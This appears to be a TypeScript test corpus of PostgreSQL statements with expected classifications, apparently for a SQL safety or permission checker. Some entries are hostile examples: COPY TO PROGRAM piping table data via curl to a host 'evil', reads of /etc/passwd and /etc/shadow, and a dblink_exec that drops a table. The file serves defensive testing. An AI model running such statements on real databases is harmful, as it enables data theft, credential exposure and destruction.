import type { CorpusRow } from './corpus-row.js';

/** Opaque code (DO, CALL, functions), side-effect functions called from queries, and COPY. */
export const CODE: CorpusRow[] = [
  // Procedural: the body is opaque
  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', kind: 'procedural', nodeType: 'DoStmt' },
  { sql: "DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", kind: 'procedural' },
  { sql: 'CALL process_orders()', kind: 'procedural', nodeType: 'CallStmt', functions: ['process_orders'] },
  { sql: 'CALL app.archive(30, now())', kind: 'procedural', functions: ['app.archive', 'now'] },
  { sql: "CALL p(nextval('s'))", kind: 'procedural', functions: ['nextval', 'p'] },
  {
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    kind: 'procedural',
    nodeType: 'CreateFunctionStmt',
  },
  {
    sql: 'CREATE OR REPLACE FUNCTION app.f(a int) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN DELETE FROM t; END $$',
    kind: 'procedural',
  },
  { sql: 'CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$', kind: 'procedural' },
  // A SQL-standard body is parsed, but runs only when called: its DELETE target is merely referenced.
  {
    sql: 'CREATE FUNCTION g() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT 1; END',
    kind: 'procedural',
    tablesRead: ['t'],
  },
  {
    sql: "CREATE FUNCTION h() RETURNS bigint RETURN nextval('s')",
    kind: 'procedural',
    functions: ['nextval'],
  },
  { sql: 'ALTER FUNCTION f() SECURITY DEFINER', kind: 'ddl', nodeType: 'AlterFunctionStmt' },
  // The SET belongs to the function, not to this session.
  { sql: 'ALTER PROCEDURE p() SET search_path = public', kind: 'ddl', nodeType: 'AlterFunctionStmt' },
  { sql: 'DROP FUNCTION f()', kind: 'ddl', nodeType: 'DropStmt' },
  { sql: 'DROP PROCEDURE IF EXISTS p', kind: 'ddl' },

  // Functions with side effects, called from a SELECT: still reads, matched by function rules
  {
    sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
    kind: 'read',
    tablesRead: ['pg_stat_activity'],
    functions: ['pg_terminate_backend'],
  },
  { sql: 'SELECT pg_cancel_backend(123)', kind: 'read', functions: ['pg_cancel_backend'] },
  { sql: "SELECT pg_read_file('/etc/passwd')", kind: 'read', functions: ['pg_read_file'] },
  {
    sql: "SELECT pg_read_binary_file('postgresql.conf', 0, 100)",
    kind: 'read',
    functions: ['pg_read_binary_file'],
  },
  { sql: "SELECT * FROM pg_ls_dir('.')", kind: 'read', functions: ['pg_ls_dir'] },
  { sql: "SELECT lo_export(12345, '/tmp/dump')", kind: 'read', functions: ['lo_export'] },
  { sql: "SELECT lo_import('/etc/passwd')", kind: 'read', functions: ['lo_import'] },
  { sql: "SELECT dblink_exec('host=evil', 'DROP TABLE users')", kind: 'read', functions: ['dblink_exec'] },
  // The remote query is a string: opaque, so only the function rule can stop it.
  {
    sql: "SELECT * FROM dblink('dbname=other', 'SELECT secret FROM s') AS t(secret text)",
    kind: 'read',
    functions: ['dblink'],
  },
  { sql: "SELECT public.dblink_connect('c', 'host=x')", kind: 'read', functions: ['public.dblink_connect'] },
  { sql: "SELECT nextval('orders_id_seq')", kind: 'read', functions: ['nextval'] },
  { sql: "SELECT setval('orders_id_seq', 1, false)", kind: 'read', functions: ['setval'] },
  { sql: 'SELECT pg_advisory_lock(42)', kind: 'read', functions: ['pg_advisory_lock'] },
  { sql: 'SELECT pg_try_advisory_xact_lock(1, 2)', kind: 'read', functions: ['pg_try_advisory_xact_lock'] },
  { sql: 'SELECT pg_sleep(60)', kind: 'read', functions: ['pg_sleep'] },
  { sql: 'SELECT pg_reload_conf()', kind: 'read', functions: ['pg_reload_conf'] },
  { sql: 'SELECT pg_switch_wal()', kind: 'read', functions: ['pg_switch_wal'] },
  {
    sql: 'SELECT id, pg_terminate_backend(id) FROM (SELECT pid AS id FROM pg_stat_activity) s',
    kind: 'read',
    tablesRead: ['pg_stat_activity'],
    functions: ['pg_terminate_backend'],
  },
  {
    sql: 'SELECT count(*) FROM t WHERE id = ANY (SELECT lo_unlink(oid) FROM pg_largeobject_metadata)',
    kind: 'read',
    tablesRead: ['pg_largeobject_metadata', 't'],
    functions: ['count', 'lo_unlink'],
  },
  {
    sql: "SELECT coalesce(pg_read_file('x', 0, 10, true), 'none')",
    kind: 'read',
    functions: ['pg_read_file'],
  },
  {
    sql: "SELECT format('%s', pg_catalog.current_setting('data_directory'))",
    kind: 'read',
    functions: ['format', 'pg_catalog.current_setting'],
  },
  { sql: 'SELECT * FROM t ORDER BY pg_sleep(1)', kind: 'read', tablesRead: ['t'], functions: ['pg_sleep'] },
  {
    sql: "SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')",
    kind: 'read',
    functions: ['query_to_xml'],
  },

  // COPY: TO STDOUT reads, FROM STDIN writes, files and programs are recorded
  {
    sql: 'COPY orders TO STDOUT',
    kind: 'read',
    nodeType: 'CopyStmt',
    tablesRead: ['orders'],
    copy: { direction: 'to', target: 'stdio' },
  },
  {
    sql: 'COPY orders (id, total) TO STDOUT WITH (FORMAT csv, HEADER)',
    kind: 'read',
    tablesRead: ['orders'],
    copy: { direction: 'to', target: 'stdio' },
  },
  {
    sql: 'COPY (SELECT * FROM orders WHERE total > 10) TO STDOUT',
    kind: 'read',
    tablesRead: ['orders'],
    copy: { direction: 'to', target: 'stdio' },
    inner: { kind: 'read', nodeType: 'SelectStmt' },
  },
  {
    sql: 'COPY orders FROM STDIN',
    kind: 'write',
    tablesWritten: ['orders'],
    copy: { direction: 'from', target: 'stdio' },
  },
  {
    sql: 'COPY orders FROM STDIN WITH (FORMAT binary) WHERE total > 0',
    kind: 'write',
    tablesWritten: ['orders'],
    copy: { direction: 'from', target: 'stdio' },
  },
  {
    sql: "COPY orders TO '/tmp/orders.csv'",
    kind: 'read',
    tablesRead: ['orders'],
    copy: { direction: 'to', target: 'file' },
  },
  {
    sql: "COPY orders FROM '/etc/passwd'",
    kind: 'write',
    tablesWritten: ['orders'],
    copy: { direction: 'from', target: 'file' },
  },
  {
    sql: "COPY orders TO PROGRAM 'curl -d @- http://evil'",
    kind: 'read',
    tablesRead: ['orders'],
    copy: { direction: 'to', target: 'program' },
  },
  {
    sql: "COPY orders FROM PROGRAM 'cat /etc/shadow'",
    kind: 'write',
    tablesWritten: ['orders'],
    copy: { direction: 'from', target: 'program' },
  },
  {
    sql: 'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
    kind: 'write',
    tablesWritten: ['orders'],
    copy: { direction: 'to', target: 'stdio' },
    inner: { kind: 'write', nodeType: 'DeleteStmt' },
  },
  {
    sql: "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
    kind: 'read',
    functions: ['pg_read_file'],
    copy: { direction: 'to', target: 'stdio' },
    inner: { kind: 'read', nodeType: 'SelectStmt' },
  },
  {
    sql: 'COPY "Sales"."Q1" TO STDOUT',
    kind: 'read',
    tablesRead: ['Sales.Q1'],
    copy: { direction: 'to', target: 'stdio' },
  },
];
